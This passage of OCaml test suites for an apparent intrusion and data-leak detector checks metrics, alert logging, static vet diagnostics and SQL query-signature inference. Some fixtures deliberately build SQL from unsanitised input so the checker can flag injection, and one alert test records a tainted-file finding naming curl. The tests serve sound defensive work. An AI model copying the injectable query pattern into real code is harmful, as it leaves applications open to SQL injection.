  Alcotest.(check (float 1e-9)) "p50 bucket" 0.1 (Metrics.quantile h 0.5);
  Alcotest.(check bool) "p99 overflows" true (Metrics.quantile h 0.99 = infinity);
  let dump = Metrics.dump m in
  List.iter
    (fun needle ->
      Alcotest.(check bool)
        (Printf.sprintf "dump has %S" needle)
        true
        (contains ~needle dump))
    [
      "# TYPE requests_total counter";
      "requests_total 5";
      "# TYPE depth gauge";
      "depth 3";
      "depth_max 7";
      "# TYPE lat histogram";
      "lat_bucket{le=\"0.1\"} 2";
      "lat_bucket{le=\"1\"} 3";
      "lat_bucket{le=\"+Inf\"} 4";
      "lat_count 4";
    ];
  (* name collisions across types are programming errors *)
  Alcotest.check_raises "type clash"
    (Invalid_argument "Metrics: \"depth\" registered with another type") (fun () ->
      ignore (Metrics.counter m "depth"))

let test_metrics_dump_sorted_golden () =
  (* registration order is scrambled on purpose: the dump must come out
     sorted by name, and byte-identical to this golden copy *)
  let m = Metrics.create () in
  let c = Metrics.counter m "z_total" in
  Metrics.incr ~by:2 c;
  let g = Metrics.gauge m "a_depth" in
  Metrics.set_gauge g 5;
  Metrics.set_gauge g 2;
  let h = Metrics.histogram ~buckets:[| 0.1; 1.0 |] m "m_lat" in
  Metrics.observe h 0.05;
  Metrics.observe h 10.0;
  let expected =
    "# HELP a_depth a_depth\n\
     # TYPE a_depth gauge\n\
     a_depth 2\n\
     # HELP a_depth_max a_depth_max\n\
     # TYPE a_depth_max gauge\n\
     a_depth_max 5\n\
     # HELP m_lat m_lat\n\
     # TYPE m_lat histogram\n\
     m_lat_bucket{le=\"0.1\"} 1\n\
     m_lat_bucket{le=\"1\"} 1\n\
     m_lat_bucket{le=\"+Inf\"} 2\n\
     m_lat_sum 10.05\n\
     m_lat_count 2\n\
     # HELP z_total z_total\n\
     # TYPE z_total counter\n\
     z_total 2\n"
  in
  Alcotest.(check string) "golden sorted dump" expected (Metrics.dump m)

let test_gauge_max_two_domains () =
  (* two domains hammer the same gauge; the lock-free CAS loop must
     leave the high-watermark at exactly the largest value either
     domain ever set, regardless of interleaving *)
  let m = Metrics.create () in
  let g = Metrics.gauge m "stress_depth" in
  let per_domain = 20_000 in
  let value k i = (i * 7) + k land 0xffff in
  let worker k () =
    for i = 0 to per_domain - 1 do
      Metrics.set_gauge g (value k i)
    done
  in
  let d1 = Domain.spawn (worker 1) and d2 = Domain.spawn (worker 2) in
  Domain.join d1;
  Domain.join d2;
  let expected = ref min_int in
  List.iter
    (fun k ->
      for i = 0 to per_domain - 1 do
        if value k i > !expected then expected := value k i
      done)
    [ 1; 2 ];
  Alcotest.(check int) "watermark = global max" !expected (Metrics.gauge_max g);
  Alcotest.(check bool) "last value is one of the writers' finals" true
    (let v = Metrics.gauge_value g in
     v = value 1 (per_domain - 1) || v = value 2 (per_domain - 1))

(* --- alerts ------------------------------------------------------------------ *)

let test_alert_sink () =
  let now = ref 0.0 in
  let sink = Alerts.create ~clock:(fun () -> !now) () in
  let verdict flag =
    { Detector.flag; score = -1.0; unknown_symbol = false; unknown_pair = None }
  in
  now := 1.0;
  Alcotest.(check bool) "data leak recorded" true
    (Alerts.record_verdict sink ~session:3 ~window_index:0 (verdict Detector.Data_leak));
  now := 2.0;
  Alcotest.(check bool) "normal not recorded" false
    (Alerts.record_verdict sink ~session:1 ~window_index:4 (verdict Detector.Normal));
  Alcotest.(check bool) "anomalous not recorded" false
    (Alerts.record_verdict sink ~session:1 ~window_index:4 (verdict Detector.Anomalous));
  Alerts.record_finding sink ~session:1
    (Adprom.Audit.Tainted_file_command { path = "/tmp/x"; command = "curl" });
  now := 3.0;
  Alcotest.(check bool) "out of context recorded" true
    (Alerts.record_verdict sink ~session:2 ~window_index:9
       (verdict Detector.Out_of_context));
  Alerts.record_finding sink ~session:2 (Adprom.Audit.Unknown_query_signature "sig");
  let incidents = Alerts.incidents sink in
  Alcotest.(check int) "four incidents" 4 (List.length incidents);
  Alcotest.(check (list int)) "timestamp order"
    [ 0; 1; 2; 3 ]
    (List.map (fun (i : Alerts.incident) -> i.Alerts.seq) incidents);
  Alcotest.(check (list int)) "sessions in record order"
    [ 3; 1; 2; 2 ]
    (List.map (fun (i : Alerts.incident) -> i.Alerts.session) incidents);
  (* both channels appear in the printed log *)
  let log = Alerts.to_string sink in
  List.iter
    (fun needle ->
      Alcotest.(check bool)
        (Printf.sprintf "log mentions %S" needle)
        true
        (contains ~needle log))
    [ "data-leak"; "out-of-context"; "/tmp/x"; "sig" ]

let test_alert_explanation_rendered () =
  let sink = Alerts.create () in
  let v =
    {
      Detector.flag = Detector.Data_leak;
      score = neg_infinity;
      unknown_symbol = true;
      unknown_pair = None;
    }
  in
  let expl =
    {
      Adprom.Scoring.gate = Adprom.Scoring.Unknown_symbol;
      verdict = v;
      exp_threshold = -1.5;
      margin = infinity;
      top =
        [
          {
            Adprom.Scoring.position = 2;
            symbol = Symbol.lib "evil0";
            caller = "intruder";
            surprisal = infinity;
          };
        ];
    }
  in
  Alcotest.(check bool) "recorded" true
    (Alerts.record_verdict ~explanation:expl sink ~session:7 ~window_index:3 v);
  let log = Alerts.to_string sink in
  List.iter
    (fun needle ->
      Alcotest.(check bool)
        (Printf.sprintf "rendered incident mentions %S" needle)
        true
        (contains ~needle log))
    [ "gate=unknown-symbol"; "margin=inf"; "intruder"; "evil0@2" ];
  (* without an explanation the bracketed suffix must not appear *)
  let bare = Alerts.create () in
  ignore (Alerts.record_verdict bare ~session:1 ~window_index:0 v);
  Alcotest.(check bool) "no explanation, no brackets" false
    (contains ~needle:"gate=" (Alerts.to_string bare))

let test_daemon_feeds_alerts () =
  let profile = profile () in
  (* a stream of library calls the profile has never seen must raise
     alarms and land in the incident log *)
  let foreign =
    Array.init 20 (fun i ->
        { Codec.session = 0; event = mk_event ~caller:"intruder" (Printf.sprintf "evil%d" (i mod 3)) })
  in
  let outcome = Replay.run ~shards:1 profile foreign in
  Alcotest.(check bool) "incidents recorded" true (Alerts.count outcome.Replay.alerts > 0);
  let worst =
    List.map
      (fun (r : Daemon.session_report) -> r.Daemon.worst)
      outcome.Replay.summary.Daemon.sessions
  in
  Alcotest.(check bool) "session flagged" true
    (List.exists (fun f -> f = Detector.Out_of_context || f = Detector.Data_leak) worst)

let test_daemon_explains_incidents () =
  let profile = profile () in
  let foreign =
    Array.init 20 (fun i ->
        { Codec.session = 0; event = mk_event ~caller:"intruder" (Printf.sprintf "evil%d" (i mod 3)) })
  in
  let outcome = Replay.run ~shards:2 profile foreign in
  let verdict_incidents =
    List.filter
      (fun (i : Alerts.incident) ->
        match i.Alerts.source with Alerts.Verdict _ -> true | _ -> false)
      (Alerts.incidents outcome.Replay.alerts)
  in
  Alcotest.(check bool) "verdict incidents present" true (verdict_incidents <> []);
  (* every anomalous incident carries an explanation naming the gate —
     here the foreign symbols make that gate unknown-symbol *)
  List.iter
    (fun (i : Alerts.incident) ->
      match i.Alerts.source with
      | Alerts.Verdict { explanation = None; _ } ->
          Alcotest.fail "verdict incident without explanation"
      | Alerts.Verdict { explanation = Some e; _ } ->
          Alcotest.(check bool) "gate is unknown-symbol" true
            (e.Adprom.Scoring.gate = Adprom.Scoring.Unknown_symbol);
          Alcotest.(check bool) "incident names the gate" true
            (contains ~needle:"gate=unknown-symbol" (Alerts.incident_to_string i))
      | _ -> ())
    verdict_incidents;
  (* the incidents also landed on the shard event rings and surface in
     the outcome's tail *)
  Alcotest.(check bool) "events tail non-empty" true
    (outcome.Replay.events_tail <> []);
  Alcotest.(check bool) "tail records the incidents" true
    (List.exists
       (fun (e : Adprom_obs.Log.event) ->
         e.Adprom_obs.Log.message = "incident" && e.Adprom_obs.Log.level = Adprom_obs.Log.Warn)
       outcome.Replay.events_tail)

(* --- Core.Sessions properties ------------------------------------------------ *)

let event_gen =
  QCheck2.Gen.(
    let symbol =
      oneof
        [
          map (fun n -> Symbol.lib (Printf.sprintf "f%d" n)) (int_bound 5);
          map
            (fun n ->
              Symbol.Lib { name = Printf.sprintf "q%d" n; label = Some n; site = None })
            (int_bound 3);
        ]
    in
    map2
      (fun sym c ->
        { Runtime.Collector.symbol = sym; caller = Printf.sprintf "c%d" c; block = c })
      symbol (int_bound 4))

let traces_gen =
  QCheck2.Gen.(
    list_size (int_range 1 5)
      (map Array.of_list (list_size (int_range 0 20) event_gen)))

let print_traces ts =
  String.concat " | "
    (List.map (fun t -> Printf.sprintf "%d events" (Array.length t)) ts)

let prop_demux_inverts_interleave =
  QCheck2.Test.make ~name:"demux (interleave traces) recovers every trace" ~count:200
    ~print:print_traces traces_gen (fun traces ->
      let rng = Mlkit.Rng.create 99 in
      let host = Sessions.interleave ~rng traces in
      let demuxed = Sessions.demux host in
      (* demux drops empty traces (they contribute no events); surviving
         sessions must come back verbatim under their original index *)
      List.for_all
        (fun (s, trace) -> trace = List.nth traces s)
        demuxed
      && List.length demuxed
         = List.length (List.filter (fun t -> Array.length t > 0) traces)
      && Array.length host = List.fold_left (fun a t -> a + Array.length t) 0 traces)

let prop_windows_per_session =
  QCheck2.Test.make ~name:"windows_per_session = per-trace windowing" ~count:200
    ~print:print_traces traces_gen (fun traces ->
      let rng = Mlkit.Rng.create 7 in
      let host = Sessions.interleave ~rng traces in
      let via_sessions = Sessions.windows_per_session ~window:4 host in
      let direct =
        List.concat_map
          (fun (_, trace) -> Window.of_trace ~window:4 trace)
          (Sessions.demux host)
      in
      via_sessions = direct)

let () =
  Alcotest.run "service"
    [
      ( "codec",
        [
          Alcotest.test_case "round trip" `Quick test_codec_roundtrip;
          Alcotest.test_case "round trip (real stream)" `Quick test_codec_roundtrip_real_stream;
          Alcotest.test_case "line-numbered errors" `Quick test_codec_errors;
          Alcotest.test_case "trace_io hardening" `Quick test_trace_io_errors;
        ] );
      ( "scorer",
        [
          Alcotest.test_case "matches the batch loop" `Quick test_scorer_matches_batch;
          Alcotest.test_case "short traces flush one window" `Quick test_scorer_short_trace;
          Alcotest.test_case "push after flush is a soft error" `Quick
            test_scorer_push_after_flush;
        ] );
      ( "daemon",
        [
          Alcotest.test_case "replay matches batch verdicts" `Quick test_daemon_matches_batch;
          Alcotest.test_case "shard determinism" `Quick test_daemon_shard_determinism;
          Alcotest.test_case "sheds whole sessions, counts drops" `Quick
            test_daemon_sheds_whole_sessions;
          Alcotest.test_case "conservation under pressure" `Quick
            test_daemon_conservation_under_pressure;
          Alcotest.test_case "alerts flow from verdicts" `Quick test_daemon_feeds_alerts;
          Alcotest.test_case "incidents carry explanations" `Quick
            test_daemon_explains_incidents;
        ] );
      ( "metrics",
        [
          Alcotest.test_case "registry" `Quick test_metrics_registry;
          Alcotest.test_case "dump is sorted (golden)" `Quick
            test_metrics_dump_sorted_golden;
          Alcotest.test_case "gauge watermark under two domains" `Quick
            test_gauge_max_two_domains;
        ] );
      ( "alerts",
        [
          Alcotest.test_case "unified incident log" `Quick test_alert_sink;
          Alcotest.test_case "explanations rendered" `Quick
            test_alert_explanation_rendered;
        ] );
      ( "sessions properties",
        [
          QCheck_alcotest.to_alcotest prop_demux_inverts_interleave;
          QCheck_alcotest.to_alcotest prop_windows_per_session;
        ] );
    ]

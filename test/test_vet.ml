(* Tests for the static verification pass: the vet checks on the
   defect-seeded fixture programs under examples/vet/, the profile
   coverage cross-check, and the serving-layer Profile_check policy. *)

module Parser = Applang.Parser
module Cfg_build = Analysis.Cfg_build
module Taint = Analysis.Taint
module Vet = Analysis.Vet
module Diag = Analysis.Diag
module Symbol = Analysis.Symbol
module Pipeline = Adprom.Pipeline
module Profile_check = Adprom.Profile_check

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in_noerr ic)
    (fun () -> really_input_string ic (in_channel_length ic))

let vet_source src =
  let cfgs = fst (Cfg_build.build_program (Parser.parse_program src)) in
  ignore (Taint.analyze cfgs);
  Vet.check_program cfgs

let fixture name = read_file (Filename.concat "../examples/vet" name)

(* --- golden outputs on the defect fixtures ------------------------------- *)

let check_golden name expected () =
  Alcotest.(check (list string))
    name expected
    (List.map Diag.to_string (vet_source (fixture name)))

let test_fixture_clean =
  check_golden "clean.app" []

let test_fixture_dead_block =
  check_golden "dead_block.app"
    [ "warning[dead-code] main#7: unreachable code: call to `printf`" ]

let test_fixture_no_exit_loop =
  check_golden "no_exit_loop.app"
    [ "warning[no-exit-loop] main#4: loop has no reachable exit" ]

let test_fixture_undefined_callee =
  check_golden "undefined_callee.app"
    [ "error[undefined-callee] main#4: call to undefined function `sanitize`" ]

let test_fixture_unreachable_function =
  check_golden "unreachable_function.app"
    [ "warning[unreachable-function] orphan: function `orphan` is never called \
       from `main`" ]

let test_fixture_use_before_init =
  check_golden "use_before_init.app"
    [ "warning[use-before-init] main#9: variable `label` may be used before \
       initialization" ]

(* The injectable/prepared twins: same lookup, the only difference is
   whether the user-supplied id is concatenated into the SQL text or
   bound as a statement parameter. *)
let test_fixture_sqli_concat =
  check_golden "sqli_concat.app"
    [ "warning[sql-injectable-site] main#9: untrusted input reaches SQL \
       structure in the text passed to `mysql_query` (witness: scanf -> acc -> \
       q); bind it as a query parameter instead" ]

let test_fixture_sqli_prepared =
  check_golden "sqli_prepared.app" []

(* --- suppression: loops with a genuine way out are not flagged ----------- *)

let has_code code diags = List.exists (fun d -> d.Diag.code = code) diags

let test_break_suppresses_no_exit_loop () =
  let diags =
    vet_source
      {| fun main() {
           let x = scanf();
           while (true) {
             if (x == null) { break; }
             x = scanf();
           }
           printf("%s\n", x);
         } |}
  in
  Alcotest.(check bool) "break suppresses" false (has_code "no-exit-loop" diags)

let test_return_suppresses_no_exit_loop () =
  let diags =
    vet_source
      {| fun main() {
           while (true) {
             let x = scanf();
             if (x == null) { return; }
             printf("%s\n", x);
           }
         } |}
  in
  Alcotest.(check bool) "return suppresses" false (has_code "no-exit-loop" diags)

let test_bounded_loop_not_flagged () =
  let diags =
    vet_source
      {| fun main() {
           for (let i = 0; i < 9; i = i + 1) { printf("%d\n", i); }
         } |}
  in
  Alcotest.(check bool) "bounded loop clean" false (has_code "no-exit-loop" diags)

let test_missing_entry_warns () =
  let diags = vet_source "fun helper() { puts(\"hi\"); }" in
  Alcotest.(check bool) "no-entry warning" true (has_code "no-entry" diags);
  Alcotest.(check int) "no errors" 0 (List.length (Diag.errors diags))

(* --- profile coverage cross-check ---------------------------------------- *)

let two_call_facts () =
  let cfgs = fst (Cfg_build.build_program (Parser.parse_program (fixture "coverage.app"))) in
  ignore (Taint.analyze cfgs);
  Vet.facts cfgs

let test_coverage_consistent () =
  let facts = two_call_facts () in
  let alphabet = [ Symbol.lib "printf"; Symbol.lib "puts" ] in
  let known_pairs = [ ("main", Symbol.lib "printf"); ("main", Symbol.lib "puts") ] in
  Alcotest.(check (list string)) "clean coverage" []
    (List.map Diag.to_string (Vet.check_coverage facts ~alphabet ~known_pairs))

let test_coverage_training_gap_warns () =
  let facts = two_call_facts () in
  let diags =
    Vet.check_coverage facts ~alphabet:[ Symbol.lib "puts" ]
      ~known_pairs:[ ("main", Symbol.lib "puts") ]
  in
  Alcotest.(check int) "no errors" 0 (List.length (Diag.errors diags));
  Alcotest.(check bool) "uncovered symbol" true (has_code "uncovered-symbol" diags);
  Alcotest.(check bool) "uncovered pair" true (has_code "uncovered-pair" diags)

let test_coverage_impossible_profile_errors () =
  let facts = two_call_facts () in
  let diags =
    Vet.check_coverage facts
      ~alphabet:[ Symbol.lib "gets"; Symbol.lib "printf"; Symbol.lib "puts" ]
      ~known_pairs:
        [ ("main", Symbol.lib "gets"); ("main", Symbol.lib "printf");
          ("main", Symbol.lib "puts") ]
  in
  Alcotest.(check bool) "unreachable symbol" true
    (has_code "profile-symbol-unreachable" diags);
  Alcotest.(check bool) "impossible pair" true
    (has_code "profile-pair-impossible" diags);
  Alcotest.(check int) "both are errors" 2 (List.length (Diag.errors diags))

let test_coverage_ignores_entry_exit () =
  let facts = two_call_facts () in
  let diags =
    Vet.check_coverage facts
      ~alphabet:[ Symbol.Entry; Symbol.Exit; Symbol.lib "printf"; Symbol.lib "puts" ]
      ~known_pairs:[ ("main", Symbol.lib "printf"); ("main", Symbol.lib "puts") ]
  in
  Alcotest.(check int) "eps endpoints not flagged" 0 (List.length diags)

(* --- the built-in corpus stays error-free under vet ----------------------- *)

let builtin_sources () =
  [
    ("hospital", (Dataset.Ca_hospital.app ()).Pipeline.source);
    ("banking", (Dataset.Ca_banking.app ()).Pipeline.source);
    ("supermarket", (Dataset.Ca_supermarket.app ()).Pipeline.source);
    ("grep", (Dataset.Sir.app1 ()).Pipeline.source);
    ("gzip", (Dataset.Sir.app2 ()).Pipeline.source);
    ("sed", (Dataset.Sir.app3 ()).Pipeline.source);
    ("bash", (Dataset.Sir.app4 ()).Pipeline.source);
  ]

let test_builtin_apps_vet_error_free () =
  List.iter
    (fun (name, src) ->
      let errors = Diag.errors (vet_source src) in
      Alcotest.(check (list string))
        (Printf.sprintf "%s has no vet errors" name)
        []
        (List.map Diag.to_string errors))
    (builtin_sources ())

(* --- Profile_check: trained profile vs its own program -------------------- *)

let small_app =
  {
    Pipeline.name = "vet-test-app";
    source =
      {|
        fun main() {
          let conn = db_connect("pg");
          let id = scanf();
          let q = strcat(strcat("SELECT name FROM t WHERE id = '", id), "'");
          let r = pq_exec(conn, q);
          let n = pq_ntuples(r);
          for (let i = 0; i < n; i = i + 1) {
            printf("%s\n", pq_getvalue(r, i, 0));
          }
          puts("bye");
        }
      |};
    dbms = "PostgreSQL";
    setup_db =
      (fun e ->
        ignore (Sqldb.Engine.exec e "CREATE TABLE t (id, name)");
        for i = 0 to 9 do
          ignore
            (Sqldb.Engine.exec e (Printf.sprintf "INSERT INTO t VALUES (%d, 'n%d')" i i))
        done);
    test_cases =
      List.init 10 (fun i ->
          Runtime.Testcase.make ~input:[ string_of_int i ] (Printf.sprintf "c%d" i));
  }

let trained =
  lazy
    (let ds = Pipeline.collect small_app in
     (ds, Pipeline.train ds))

let test_profile_check_own_program_error_free () =
  let ds, profile = Lazy.force trained in
  let diags = Profile_check.check profile ds.Pipeline.analysis in
  Alcotest.(check (list string)) "no errors against own program" []
    (List.map Diag.to_string (Diag.errors diags))

let test_profile_check_policies () =
  let ds, profile = Lazy.force trained in
  let analysis = ds.Pipeline.analysis in
  Alcotest.(check int) "Off reports nothing" 0
    (List.length (Profile_check.apply Profile_check.Off profile analysis));
  (* Enforce must not raise on a profile vetted against its own program. *)
  ignore (Profile_check.apply Profile_check.Enforce profile analysis)

let test_profile_check_enforce_rejects_foreign_program () =
  let _, profile = Lazy.force trained in
  let foreign =
    Analysis.Analyzer.analyze (Parser.parse_program "fun main() { puts(\"hi\"); }")
  in
  Alcotest.check_raises "Enforce refuses a mismatched program"
    (Invalid_argument "")
    (fun () ->
      match Profile_check.apply Profile_check.Enforce profile foreign with
      | _ -> ()
      | exception Invalid_argument _ -> raise (Invalid_argument ""))

let test_static_pairs_load_into_engine () =
  let ds, profile = Lazy.force trained in
  let pairs = Profile_check.static_pairs ds.Pipeline.analysis in
  Alcotest.(check bool) "some static pairs" true (pairs <> []);
  Alcotest.(check bool) "all from main" true
    (List.for_all (fun (caller, _) -> caller = "main") pairs);
  let engine = Adprom.Scoring.create profile in
  Alcotest.(check bool) "not loaded yet" false
    (Adprom.Scoring.static_pairs_loaded engine);
  Adprom.Scoring.set_static_pairs engine (Some pairs);
  Alcotest.(check bool) "loaded" true (Adprom.Scoring.static_pairs_loaded engine)

let test_daemon_enforce_rejects_foreign_program () =
  let _, profile = Lazy.force trained in
  let foreign =
    Analysis.Analyzer.analyze (Parser.parse_program "fun main() { puts(\"hi\"); }")
  in
  match
    Adprom_service.Daemon.create ~shards:1 ~vet_against:foreign
      ~vet_policy:Profile_check.Enforce profile
  with
  | exception Invalid_argument _ -> ()
  | daemon ->
      ignore (Adprom_service.Daemon.drain daemon);
      Alcotest.fail "daemon accepted a profile failing vet under Enforce"

let test_daemon_warn_serves_foreign_program () =
  let _, profile = Lazy.force trained in
  let foreign =
    Analysis.Analyzer.analyze (Parser.parse_program "fun main() { puts(\"hi\"); }")
  in
  let daemon =
    Adprom_service.Daemon.create ~shards:1 ~vet_against:foreign
      ~vet_policy:Profile_check.Warn profile
  in
  let summary = Adprom_service.Daemon.drain daemon in
  Alcotest.(check int) "no events" 0 summary.Adprom_service.Daemon.events_offered

(* -------------------------------------------------------------------------- *)

let () =
  Alcotest.run "vet"
    [
      ( "fixtures",
        [
          Alcotest.test_case "clean" `Quick test_fixture_clean;
          Alcotest.test_case "dead-code" `Quick test_fixture_dead_block;
          Alcotest.test_case "no-exit-loop" `Quick test_fixture_no_exit_loop;
          Alcotest.test_case "undefined-callee" `Quick test_fixture_undefined_callee;
          Alcotest.test_case "unreachable-function" `Quick
            test_fixture_unreachable_function;
          Alcotest.test_case "use-before-init" `Quick test_fixture_use_before_init;
          Alcotest.test_case "sqli-concat" `Quick test_fixture_sqli_concat;
          Alcotest.test_case "sqli-prepared" `Quick test_fixture_sqli_prepared;
        ] );
      ( "loops",
        [
          Alcotest.test_case "break suppresses" `Quick test_break_suppresses_no_exit_loop;
          Alcotest.test_case "return suppresses" `Quick
            test_return_suppresses_no_exit_loop;
          Alcotest.test_case "bounded loop clean" `Quick test_bounded_loop_not_flagged;
          Alcotest.test_case "missing entry warns" `Quick test_missing_entry_warns;
        ] );
      ( "coverage",
        [
          Alcotest.test_case "consistent" `Quick test_coverage_consistent;
          Alcotest.test_case "training gap warns" `Quick test_coverage_training_gap_warns;
          Alcotest.test_case "impossible profile errors" `Quick
            test_coverage_impossible_profile_errors;
          Alcotest.test_case "ignores eps endpoints" `Quick
            test_coverage_ignores_entry_exit;
        ] );
      ( "corpus",
        [
          Alcotest.test_case "built-in apps error-free" `Quick
            test_builtin_apps_vet_error_free;
        ] );
      ( "profile-check",
        [
          Alcotest.test_case "own program error-free" `Quick
            test_profile_check_own_program_error_free;
          Alcotest.test_case "policies" `Quick test_profile_check_policies;
          Alcotest.test_case "enforce rejects foreign" `Quick
            test_profile_check_enforce_rejects_foreign_program;
          Alcotest.test_case "static pairs into engine" `Quick
            test_static_pairs_load_into_engine;
          Alcotest.test_case "daemon enforce rejects" `Quick
            test_daemon_enforce_rejects_foreign_program;
          Alcotest.test_case "daemon warn serves" `Quick
            test_daemon_warn_serves_foreign_program;
        ] );
    ]

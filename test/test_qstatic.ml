(* Tests for the static query-signature inference (Qstatic/Strdom) and
   the engine's static gate: deterministic template/widening cases, the
   QCheck2 soundness property (observed signatures are contained in the
   statically inferred set on random benign programs), the injectable
   call-site witness, and the gate's explain/enforce semantics. *)

module Parser = Applang.Parser
module Cfg_build = Analysis.Cfg_build
module Qstatic = Analysis.Qstatic
module Interp = Runtime.Interp
module Testcase = Runtime.Testcase
module Engine = Adprom_qsig.Engine
module Pipeline = Adprom.Pipeline

let build src = fst (Cfg_build.build_program (Parser.parse_program src))
let infer_src src = Qstatic.infer (build src)

let run_src ?(input = []) src =
  let analysis = Analysis.Analyzer.analyze (Parser.parse_program src) in
  let engine = Sqldb.Engine.create () in
  ignore (Sqldb.Engine.exec engine "CREATE TABLE t (a, b)");
  ignore (Sqldb.Engine.exec engine "INSERT INTO t VALUES (1, 'x')");
  let tc = Testcase.make ~input "t" in
  snd (Interp.collect_trace ~analysis ~engine tc)

(* every raw text submitted to the DB plus every bound execution from
   the audit-log view — the traffic the monitor would canonicalize *)
let observed_signatures (out : Interp.outcome) =
  List.sort_uniq compare
    (List.filter_map Sqldb.Sql_pp.signature_of_sql
       (out.Interp.queries @ List.map fst out.Interp.query_log))

let subset l r = List.for_all (fun x -> List.mem x r) l

(* --- deterministic inference cases ---------------------------------------- *)

let test_constant_query () =
  let r = infer_src {| fun main() {
      let conn = db_connect("pg");
      pq_exec(conn, "SELECT a FROM t WHERE a = 7");
    } |} in
  Alcotest.(check bool) "complete" true r.Qstatic.complete;
  Alcotest.(check (list string)) "one signature"
    [ "SELECT a FROM t WHERE a = ?" ] r.Qstatic.signatures;
  Alcotest.(check bool) "not injectable" true
    (List.for_all (fun (s : Qstatic.site) -> s.Qstatic.injectable = None)
       r.Qstatic.sites)

let loop_src =
  {| fun main() {
       let conn = db_connect("pg");
       let n = atoi(scanf());
       let q = "SELECT a FROM t WHERE a IN (0";
       for (let i = 0; i < n; i = i + 1) { q = strcat(q, ", 1"); }
       q = strcat(q, ")");
       pq_exec(conn, q);
     } |}

let test_loop_widening_arity_classes () =
  let r = infer_src loop_src in
  Alcotest.(check bool) "complete" true r.Qstatic.complete;
  Alcotest.(check (list string)) "the three IN-list arity classes"
    [
      "SELECT a FROM t WHERE a IN (?{1})";
      "SELECT a FROM t WHERE a IN (?{few})";
      "SELECT a FROM t WHERE a IN (?{many})";
    ]
    (List.sort compare r.Qstatic.signatures)

let test_loop_runtime_contained () =
  let static = infer_src loop_src in
  List.iter
    (fun n ->
      let out = run_src ~input:[ string_of_int n ] loop_src in
      Alcotest.(check bool)
        (Printf.sprintf "run with %d extra elements contained" n)
        true
        (subset (observed_signatures out) static.Qstatic.signatures))
    [ 0; 1; 3; 12 ]

let test_sprintf_interpolation () =
  let r = infer_src {| fun main() {
      let conn = db_connect("pg");
      let id = atoi(scanf());
      pq_exec(conn, sprintf("SELECT b FROM t WHERE a = %d AND b = '%s'", id, "x"));
    } |} in
  Alcotest.(check bool) "complete" true r.Qstatic.complete;
  Alcotest.(check (list string)) "holes become parameter slots"
    [ "SELECT b FROM t WHERE a = ? AND b = ?" ] r.Qstatic.signatures

let test_prepare_site_covers_bound_traffic () =
  let src = {| fun main() {
      let conn = db_connect("pg");
      let id = atoi(scanf());
      let stmt = pq_prepare(conn, "SELECT b FROM t WHERE a = ?");
      let r = pq_exec_prepared(conn, stmt, id);
      printf("%d\n", pq_ntuples(r));
    } |} in
  let static = infer_src src in
  Alcotest.(check bool) "complete" true static.Qstatic.complete;
  Alcotest.(check bool) "prepare site marked" true
    (List.exists (fun (s : Qstatic.site) -> s.Qstatic.prepare) static.Qstatic.sites);
  let out = run_src ~input:[ "1" ] src in
  Alcotest.(check bool) "bound executions contained" true
    (subset (observed_signatures out) static.Qstatic.signatures)

(* --- queries arrive oldest-first (the Istate accessor fix) ----------------- *)

let test_query_log_program_order () =
  let out = run_src {| fun main() {
      let conn = db_connect("pg");
      pq_exec(conn, "SELECT a FROM t");
      pq_exec(conn, "SELECT b FROM t");
      pq_exec(conn, "DELETE FROM t");
    } |} in
  Alcotest.(check (list string)) "submission order"
    [ "SELECT a FROM t"; "SELECT b FROM t"; "DELETE FROM t" ]
    out.Interp.queries;
  Alcotest.(check (list string)) "log order matches"
    [ "SELECT a FROM t"; "SELECT b FROM t"; "DELETE FROM t" ]
    (List.map fst out.Interp.query_log)

(* --- the injectable witness ------------------------------------------------ *)

let test_injectable_site_witness () =
  let r = infer_src {| fun main() {
      let conn = db_connect("pg");
      let acc = scanf();
      let q = strcat("SELECT b FROM t WHERE b='", strcat(acc, "'"));
      pq_exec(conn, q);
    } |} in
  match
    List.find_opt
      (fun (s : Qstatic.site) -> s.Qstatic.injectable <> None)
      r.Qstatic.sites
  with
  | None -> Alcotest.fail "concatenated scanf input not flagged injectable"
  | Some s ->
      let path = Option.get s.Qstatic.injectable in
      Alcotest.(check bool) "witness starts at the source" true
        (match path with "scanf" :: _ -> true | _ -> false)

let test_sanitized_input_not_injectable () =
  (* atoi forces digits: the tainted bytes cannot alter SQL structure *)
  let r = infer_src {| fun main() {
      let conn = db_connect("pg");
      let acc = to_string(atoi(scanf()));
      let q = strcat("SELECT b FROM t WHERE a=", acc);
      pq_exec(conn, q);
    } |} in
  Alcotest.(check bool) "no injectable site" true
    (List.for_all (fun (s : Qstatic.site) -> s.Qstatic.injectable = None)
       r.Qstatic.sites)

(* --- QCheck2: soundness on random benign programs -------------------------- *)

(* Random programs assembled from the shapes the domain models: constant
   texts, integer and in-quote string interpolation, sprintf, IN-list
   builder loops, prepared statements. Inputs are benign (digits and
   alphanumerics), matching the soundness contract's literal-shaped
   premise. *)
let qprog_gen =
  let open QCheck2.Gen in
  let stmt =
    oneofl
      [
        {| pq_exec(conn, "SELECT a FROM t"); |};
        {| pq_exec(conn, "INSERT INTO t (a, b) VALUES (3, 'y')"); |};
        {| pq_exec(conn, strcat("SELECT a FROM t WHERE a = ", to_string(id))); |};
        {| pq_exec(conn, sprintf("SELECT b FROM t WHERE a = %d AND b = '%s'", id, s)); |};
        {| let q = "SELECT a FROM t WHERE a IN (0";
           for (let i = 0; i < id; i = i + 1) { q = strcat(q, ", 1"); }
           pq_exec(conn, strcat(q, ")")); |};
        {| let stmt = pq_prepare(conn, "SELECT b FROM t WHERE a = ?");
           let r = pq_exec_prepared(conn, stmt, id);
           printf("%d\n", pq_ntuples(r)); |};
      ]
  in
  let* stmts = list_size (int_range 1 5) stmt in
  let* n = int_range 0 15 in
  let* word = string_size ~gen:(char_range 'a' 'z') (int_range 0 8) in
  let buf = Buffer.create 512 in
  Buffer.add_string buf "fun main() {\n";
  Buffer.add_string buf "  let conn = db_connect(\"pg\");\n";
  Buffer.add_string buf "  let id = atoi(scanf());\n";
  Buffer.add_string buf "  let s = scanf();\n";
  List.iter (fun s -> Buffer.add_string buf ("  " ^ s ^ "\n")) stmts;
  Buffer.add_string buf "}\n";
  pure (Buffer.contents buf, [ string_of_int n; word ])

let prop_soundness =
  QCheck2.Test.make ~name:"observed signatures contained in static set"
    ~count:100
    ~print:(fun (src, input) -> src ^ "\ninput: " ^ String.concat "," input)
    qprog_gen
    (fun (src, input) ->
      let static = infer_src src in
      let out = run_src ~input src in
      static.Qstatic.complete
      && subset (observed_signatures out) static.Qstatic.signatures)

(* --- engine gate: explain is bit-for-bit, enforce is a subset --------------- *)

let gate_src =
  {| fun main() {
       let conn = db_connect("pg");
